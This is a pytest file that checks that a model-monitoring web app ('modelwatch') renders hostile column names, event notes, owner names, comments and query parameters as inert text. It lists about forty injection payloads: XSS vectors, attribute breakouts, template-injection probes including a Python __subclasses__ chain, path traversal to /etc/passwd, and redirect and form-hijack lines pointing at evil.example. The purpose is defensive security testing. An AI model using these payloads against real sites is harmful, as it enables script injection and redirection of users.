"""Names that somebody means ill with stay names: of columns, categories, events, owners, and in what people write."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import numpy as np
import polars as pl
import pytest

from browser import PHONE, Visit
from modelwatch.app import Home
from modelwatch.domain.event import Event
from modelwatch.domain.instants import DAY, HOUR, parse_instant
from modelwatch.domain.names import ModelKey
from served import Served

KEY = ModelKey("hostile")
START = parse_instant("2025-03-01")
ROWS = 48
CALL = "document.title='struck';alert(1)"
# Tags, attributes, ends of elements that hold data, templates, expressions of Vega, addresses, and odd characters.
PAYLOADS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</title></textarea></style><script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<body onload={CALL}>",
    f'<iframe src="javascript:{CALL}"></iframe>',
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    f'<a href="javascript:{CALL}">x</a>',
    f"<details open ontoggle={CALL}>",
    f'<math><mi xlink:href="javascript:{CALL}">x</mi></math>',
    f'<object data="data:text/html,<script>{CALL}</script>">',
    '<link rel=stylesheet href="data:text/css,*{display:none}">',
    "<style>*{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=key>",
    "<!--<script>",
    f'" onmouseover="{CALL}" x="',
    f"' onfocus='{CALL}' autofocus x='",
    f'x" autofocus onfocus="{CALL}',
    f'\\"}}]}};{CALL}//',
    f"'-{CALL}-'",
    f"`;{CALL};`",
    f'</json>"]}}{CALL}',
    "{{7*7}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"datum['x'];{CALL}",
    '{"signal": "warn(\'x\')"}',
    f"javascript:{CALL}",
    "data:text/html,<script>alert(1)</script>",
    "../../../../etc/passwd?x=1&y=2#z%00",
    "\u202egnp.exe\u202d txt",
    "a\u200b\u200c\u200d\ufeffb",
    "\u2028\u2029line",
    "\u0301\u0301\u0301z\u0335\u0336\u0337a\u0334l\u0338g\u0321o",
    "long " * 12,
)
LONG = "x" * 10_000
COLUMNS = PAYLOADS[::2]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, serve_copy: Callable[[Path], Served]) -> str:
    """A server whose model has such columns, categories, events, comments and an owner, and an incident of them all."""
    assert len(set(PAYLOADS)) == 40
    folder = tmp_path_factory.mktemp("hostile")
    _rows(-6, 6, seed=1).write_parquet(folder / "reference.parquet")
    rows = _rows(0, 3, seed=2)
    last = pl.col("at") >= pl.lit(START + 2 * DAY).cast(rows["at"].dtype)
    rows = rows.with_columns([pl.when(~last).then(pl.col(name)).alias(name) for name in COLUMNS])
    rows.drop("label").write_parquet(folder / "rows.parquet")
    rows.select(prediction_id="id", label="label", timestamp="at").write_parquet(folder / "labels.parquet")
    (folder / "monitor.yaml").write_text(json.dumps(_specification()))
    with Home.open(folder / "home", write=True) as home:
        home.apply(folder / "monitor.yaml")
        home.ingest(KEY, [folder / "rows.parquet"])
        home.label(KEY, [folder / "labels.parquet"])
        for place, payload in enumerate((*PAYLOADS, LONG)):
            home.add_event(KEY, Event(kind="deployment", at=START + place * HOUR, note=payload))
        home.run(until=START + 3 * DAY + 2 * HOUR)
        numbers = [each["id"] for each in home.incidents(KEY)]
        assert numbers
        for number in numbers:
            for payload in PAYLOADS:
                home.respond(KEY, number, "comment", who=payload.strip()[:40], text=payload)
    return serve_copy(folder / "home").url


def _rows(first: int, days: int, *, seed: int) -> pl.DataFrame:
    rng = np.random.default_rng(seed)
    size = days * ROWS
    return pl.DataFrame(
        {
            "id": [f"{first}-{place}" for place in range(size)],
            "at": pl.Series(START + first * DAY + np.arange(size) * (DAY // ROWS)).cast(pl.Datetime("us", "UTC")),
            **{name: rng.normal(0, 1, size) for name in COLUMNS},
            "word": rng.choice(np.array(PAYLOADS, dtype=object), size),
            "score": rng.random(size),
            "label": rng.integers(0, 2, size),
        }
    )


def _specification() -> dict[str, Any]:
    features = {**dict.fromkeys(COLUMNS, "numeric"), "word": "categorical"}
    return {
        "model": KEY.model,
        "task": "binary",
        "owner": {"team": PAYLOADS[20]},
        "columns": {
            "id": "id",
            "timestamp": "at",
            "score": "score",
            "label": "label",
            "features": features,
            "segments": ["word"],
        },
        "labels": {"expected": "1h", "horizon": "7d", "minimum": 20},
        "reference": {"path": "reference.parquet"},
        "windows": {"size": "1d", "lateness": "0h", "spans": [1]},
        "routes": [{"to": ["log"]}],
    }


def struck(visit: Visit) -> str:
    """What was done to the page, if anything."""
    page = visit.page
    if page.title().startswith("struck"):
        return "a script ran"
    if page.locator("main *[onerror], main *[onload], main *[onmouseover], main *[onfocus], main iframe").count():
        return "there are elements that came from a name"
    return "" if page.url.startswith(visit.server) else f"sent to {page.url}"


@pytest.mark.slow
def test_no_page_does_what_a_name_says(visit: Callable[..., Visit], hostile: str, ask: Callable[..., Any]) -> None:
    eye = visit(hostile)
    numbers = [each["id"] for each in ask(f"{hostile}/v1/incidents")]
    paths = ["/", "/incidents", "/events", "/rules", "/models/hostile", "/models/hostile/columns/word"]
    paths += [f"/incidents/{number}" for number in numbers]
    for path in paths:
        page = eye.open(path)
        page.evaluate("scrollTo(0, document.body.scrollHeight)")
        eye.settle()
        page.keyboard.press("t")
        assert struck(eye) == "", path
        assert page.locator(".chart-error").count() == 0, path
        assert eye.overflow(PHONE["width"]) <= 0, f"{path} scrolls sideways"
        page.set_viewport_size({"width": 1440, "height": 900})
    assert PAYLOADS[0] in eye.open("/events").locator("main").inner_text()


@pytest.mark.slow
def test_columns_of_any_name_have_a_page(visit: Callable[..., Visit], hostile: str) -> None:
    eye = visit(hostile)
    for name in COLUMNS:
        page = eye.open(f"/models/hostile/columns/{quote(name, safe='')}")
        assert struck(eye) == "", name
        assert name.split()[0] in page.locator("h1").inner_text()


@pytest.mark.slow
def test_what_one_asks_for_is_not_done(visit: Callable[..., Visit], hostile: str) -> None:
    eye = visit(hostile)
    for payload in PAYLOADS:
        asked = quote(payload, safe="")
        for path in (f"/search?q={asked}", f"/?q={asked}", f"/incidents?q={asked}", f"/sign-in?next={asked}"):
            eye.page.goto(hostile + path, wait_until="domcontentloaded")
            assert struck(eye) == "", path


def test_a_choice_that_is_not_there_is_told_as_text(visit: Callable[..., Visit], hostile: str) -> None:
    eye = visit(hostile)
    for payload in PAYLOADS[:8]:
        asked = quote(payload, safe="")
        for path in (f"/models/{asked}", f"/models/hostile?range={asked}", f"/?state={asked}", f"/incidents/{asked}"):
            eye.page.goto(hostile + path, wait_until="domcontentloaded")
            assert struck(eye) == "", path
    assert [each for each in eye.troubles if not each.startswith(("status: 4", "console: Failed to load"))] == []
    eye.troubles.clear()
